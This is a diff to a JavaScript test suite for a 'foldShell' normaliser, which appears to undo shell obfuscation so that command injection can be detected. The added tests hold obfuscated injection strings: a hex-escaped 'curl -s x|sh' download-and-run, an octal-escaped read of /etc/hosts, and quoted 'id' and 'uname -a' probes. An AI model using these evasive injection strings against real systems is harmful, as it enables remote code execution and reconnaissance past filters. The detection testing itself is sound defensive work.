@@ -65,6 +65,11 @@ describe('foldShell', () => {
     expect(foldShell("9|w'h'o'am'i")).toBe('9|whoami')
     expect(foldShell('x&&who""ami')).toBe('x&&whoami')
   })
+  it("expands bash's ANSI-C quoting and unquotes a quoted word", () => {
+    expect(foldShell("h;$'\\x63\\x75\\x72\\x6c' -s x|$'sh'")).toBe('h;curl -s x|sh')
+    expect(foldShell("h;$'\\143\\141\\164' /etc/hosts")).toBe('h;cat /etc/hosts')
+    expect(foldShell('h;"id";$"uname" -a')).toBe('h;id;uname -a')
+  })
   it('keeps \\n and \\r (read as escaped line breaks) and leaves plain text alone', () => {
     expect(foldShell('a\\nid')).toBe('a\\nid')
     expect(foldShell('rebalance; see ticket')).toBe('rebalance; see ticket')
